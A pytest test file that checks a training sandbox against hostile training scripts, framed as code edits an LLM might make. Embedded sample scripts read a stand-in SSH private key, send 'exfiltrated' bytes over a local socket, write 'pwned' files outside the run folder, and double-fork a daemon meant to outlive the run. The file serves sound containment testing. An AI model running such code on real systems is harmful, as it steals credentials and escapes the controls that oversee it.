"""Hostile training scripts (what an LLM's code edit could be) against the training sandbox (issue 22, item 3).

Each attack runs twice: confined (train_sandbox = always), where it must fail or be killed, and unconfined (never),
where it must succeed: that control proves the test can see the attack. An honest script still trains and writes
its metric confined. tests/unit/test_hostile_unprivileged.py runs this file again as uid 12345.
Paths are per test (tmp_path), the listener's port is the kernel's choice: nothing is shared with other tests.
"""

from __future__ import annotations

import os
import signal
import socket
import sys
import threading
import uuid
from pathlib import Path

import psutil
import pytest

from search.run_spec import Budget
from workloads import train_launcher
from workloads.script import ScriptWorkload
from workloads.subprocess_run import scrubbed_environment
from workloads.train_sandbox import TrainSandbox, TrainSandboxRefused

BLOCK = """# --- hyperparameters ---
STEPS = 10                  # int [1, 100]: steps
WIDTH = 4                   # int [1, 64]: width
# --- end hyperparameters ---
import os, sys, tempfile
"""
HONEST = BLOCK + """
with tempfile.NamedTemporaryFile("w", delete=False) as scratch:  # TMPDIR: the private temporary directory
    scratch.write("x")
with open("metrics.json", "w") as out:
    out.write('{"loss": %f}' % (1.0 / STEPS))
print("---")
print("loss: %f" % (1.0 / STEPS))
"""
CONFINED = TrainSandbox(mode="always")
UNCONFINED = TrainSandbox(mode="never")


def _skip_without_sandbox() -> None:
    missing = CONFINED.check(sys.executable, scrubbed_environment(os.environ))["missing"]
    if missing:
        pytest.skip(f"this kernel lacks the training sandbox: {missing}")


@pytest.fixture
def workload(tmp_path: Path) -> ScriptWorkload:
    folder = tmp_path / "workload"
    folder.mkdir()
    (folder / "train.py").write_text(HONEST)
    return ScriptWorkload(folder / "train.py", metric="loss", budget_param="STEPS")


def _run(workload: ScriptWorkload, sandbox: TrainSandbox, source: str, run_dir: Path):
    workload.set_train_sandbox(sandbox)
    return workload.run(source, Budget(mode="steps", value=10), 0, run_dir, timeout_s=120)


@pytest.mark.parametrize("sandbox", [CONFINED, UNCONFINED], ids=["confined", "unconfined"])
def test_an_honest_script_trains_and_writes_its_metric(workload, tmp_path, sandbox):
    if sandbox is CONFINED:
        _skip_without_sandbox()
    outcome = _run(workload, sandbox, HONEST, tmp_path / "run")
    assert (outcome.status, outcome.value) == ("ok", pytest.approx(0.1)), outcome.error_tail
    assert (tmp_path / "run" / "metrics.json").is_file()


@pytest.fixture
def secret(tmp_path: Path, monkeypatch) -> tuple[Path, str]:
    """A 0600 file standing in for ~/.ssh/id_rsa, in the HOME the run inherits."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_rsa"
    content = f"PRIVATE-KEY-{uuid.uuid4().hex}"
    key.write_text(content)
    key.chmod(0o600)
    monkeypatch.setenv("HOME", str(home))
    return key, content


@pytest.mark.parametrize("confined", [True, False], ids=["confined", "unconfined-control"])
def test_reading_the_home_ssh_key(workload, tmp_path, secret, confined):
    if confined:
        _skip_without_sandbox()
    key, content = secret
    source = BLOCK + f"""
try:
    stolen = open({str(key)!r}).read()
except OSError as error:
    stolen = "refused: %s" % error
print(stolen)
open("stolen.txt", "w").write(stolen)
print("---")
print("loss: 1.0")
"""
    run_dir = tmp_path / "run"
    outcome = _run(workload, CONFINED if confined else UNCONFINED, source, run_dir)
    leaked = content in (run_dir / "train.log").read_text() or content in (run_dir / "stolen.txt").read_text()
    assert leaked is not confined, outcome.log_tail
    if confined:
        assert "Permission denied" in (run_dir / "stolen.txt").read_text()


@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1 (a port the kernel picks); records what connects. Stopped after the test."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(5)
                try:
                    received.append(connection.recv(64))
                except OSError:
                    received.append(b"")
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(timeout=5)
    server.close()


def _connect_source(port: int) -> str:
    return BLOCK + f"""
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        connection.sendall(b"exfiltrated")
    print("connected")
except OSError as error:
    print("refused: %s" % error)
print("---")
print("loss: 1.0")
"""


@pytest.mark.parametrize("confined", [True, False], ids=["confined", "unconfined-control"])
def test_opening_a_socket_to_a_local_listener(workload, tmp_path, listener, confined):
    if confined:
        _skip_without_sandbox()
    port, received = listener
    outcome = _run(workload, CONFINED if confined else UNCONFINED, _connect_source(port), tmp_path / "run")
    assert outcome.status == "ok", outcome.error_tail
    if confined:
        assert received == [] and "refused" in outcome.log_tail
    else:
        assert b"exfiltrated" in received


def test_without_namespaces_landlock_still_refuses_tcp(workload, tmp_path, listener):
    """A kernel without user namespaces (simulated): Landlock's TCP rules (ABI >= 4) keep the network closed."""
    _skip_without_sandbox()
    port, received = listener
    sandbox = TrainSandbox(mode="always", options={"isolate": False})
    answer = sandbox.check(sys.executable, scrubbed_environment(os.environ))
    if answer["report"].get("landlock_abi", 0) < 4:
        pytest.skip("Landlock ABI < 4: no TCP rules on this kernel")
    assert answer["missing"] == [] and answer["report"]["network_namespace"] is False
    outcome = _run(workload, sandbox, _connect_source(port), tmp_path / "run")
    assert received == [] and "refused" in outcome.log_tail, outcome.log_tail


@pytest.mark.parametrize("confined", [True, False], ids=["confined", "unconfined-control"])
def test_writing_outside_the_run_folder(workload, tmp_path, confined):
    if confined:
        _skip_without_sandbox()
    outside = tmp_path / "outside"
    outside.mkdir()
    targets = [outside / "pwned.txt", workload.path.parent / "pwned.py"]  # a writable folder; the workload's own
    source = BLOCK + f"""
for target in {[str(t) for t in targets]!r}:
    try:
        open(target, "w").write("pwned")
    except OSError as error:
        print("refused: %s" % error)
open("inside.txt", "w").write("fine")
print("---")
print("loss: 1.0")
"""
    run_dir = tmp_path / "run"
    outcome = _run(workload, CONFINED if confined else UNCONFINED, source, run_dir)
    assert outcome.status == "ok", outcome.error_tail
    assert (run_dir / "inside.txt").read_text() == "fine"
    assert [t.exists() for t in targets] == [not confined] * 2


def _daemon_source(token: str, ready: Path) -> str:
    """Double-forks a child that leaves the session and execs a long sleep tagged with `token`, waits until it runs,
    and exits."""
    return BLOCK + f"""
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):  # a real daemon lets go of the output pipe
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time; open({str(ready)!r}, 'w').close(); time.sleep(300)", {token!r}])
    os._exit(0)
for _ in range(600):
    if os.path.exists({str(ready)!r}):
        break
    time.sleep(0.05)
print("---")
print("loss: 1.0")
"""


def _tagged(token: str) -> list[psutil.Process]:
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if token in (process.info["cmdline"] or []):
            found.append(process)
    return found


@pytest.mark.parametrize("confined", [True, False], ids=["confined", "unconfined-control"])
def test_a_daemonised_child_does_not_outlive_the_training(tmp_path, confined):
    """The launcher alone, without the supervisor that run_script adds (which reaps leftovers too): the PID
    namespace kills the daemon when the training (its PID 1) exits."""
    if confined:
        _skip_without_sandbox()
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    token = f"bilevel-daemon-{uuid.uuid4().hex}"
    script = run_dir / "train.py"
    script.write_text(_daemon_source(token, run_dir / "ready"))
    argv = [sys.executable, str(script)]
    if confined:
        private = tmp_path / "tmp"
        private.mkdir()
        argv = CONFINED.command(argv, python=sys.executable, run_dir=run_dir, tmp_dir=private)
    import subprocess

    try:
        done = subprocess.run(argv, cwd=run_dir, env=scrubbed_environment(os.environ), capture_output=True,
                              text=True, timeout=120, stdin=subprocess.DEVNULL)
        assert done.returncode == 0 and (run_dir / "ready").exists(), done.stderr[-2000:]
        assert (_tagged(token) == []) is confined
    finally:
        for process in _tagged(token):
            os.kill(process.pid, signal.SIGKILL)


def test_a_weak_sandbox_is_refused_in_one_line_unless_allowed(workload, tmp_path):
    """Landlock switched off (a kernel without it): the probe refuses before the run, and so does the launcher."""
    weak = TrainSandbox(mode="always", options={"landlock": False})
    with pytest.raises(TrainSandboxRefused) as refused:
        _run(workload, weak, HONEST, tmp_path / "run")
    message = str(refused.value)
    assert "\n" not in message and "Landlock" in message and "BILEVEL_SANDBOX_ALLOW_WEAK=1" in message
    allowed = TrainSandbox(mode="always", allow_weak=True, options={"landlock": False})
    outcome = _run(workload, allowed, HONEST, tmp_path / "weak-run")
    assert outcome.status == "ok", outcome.error_tail
    import subprocess

    private = tmp_path / "tmp"
    private.mkdir()
    argv = weak.command([sys.executable, "-c", "print('trained')"], python=sys.executable, run_dir=tmp_path,
                        tmp_dir=private)
    done = subprocess.run(argv, env=scrubbed_environment(os.environ), capture_output=True, text=True, timeout=120)
    assert done.returncode == train_launcher.REFUSED and "trained" not in done.stdout
    assert "training sandbox refused: missing Landlock" in done.stderr


def test_the_setting_confines_code_edits_by_default_and_every_run_when_asked():
    assert TrainSandbox(mode="auto").applies("code") and not TrainSandbox(mode="auto").applies("block")
    assert TrainSandbox(mode="always").applies("block") and not TrainSandbox(mode="never").applies("code")


def test_the_rule_set_keeps_gpus_writable_and_the_home_closed(tmp_path, monkeypatch):
    """CUDA opens /dev/nvidia* and /dev/dri read-write (with ioctls): they are write rules. Nothing of HOME but
    the interpreter's own folders is readable, and /etc only file by file (root owns /etc/shadow)."""
    devices = tmp_path / "dev"
    devices.mkdir()
    for name in ("nvidia0", "nvidiactl", "nvidia-uvm", "dri"):
        (devices / name).touch()
    monkeypatch.setattr(train_launcher, "GPU_DEVICE_GLOBS", (str(devices / "nvidia*"), str(devices / "dri")))
    reads, writes = train_launcher.landlock_paths([str(tmp_path / "workload")], [str(tmp_path)])
    gpus = {str(devices / n) for n in ("nvidia0", "nvidiactl", "nvidia-uvm", "dri")}
    assert gpus <= set(writes) and not gpus & set(reads)
    assert "/dev/null" in writes and "/etc" not in reads and "/" not in reads
    home = os.path.realpath(os.path.expanduser("~"))
    for path in reads:
        real = os.path.realpath(path)
        assert real != home and not (home + "/.ssh").startswith(real + "/"), path
    assert train_launcher.TRAINING_OPTIONS["nproc"] > 0  # a training needs threads

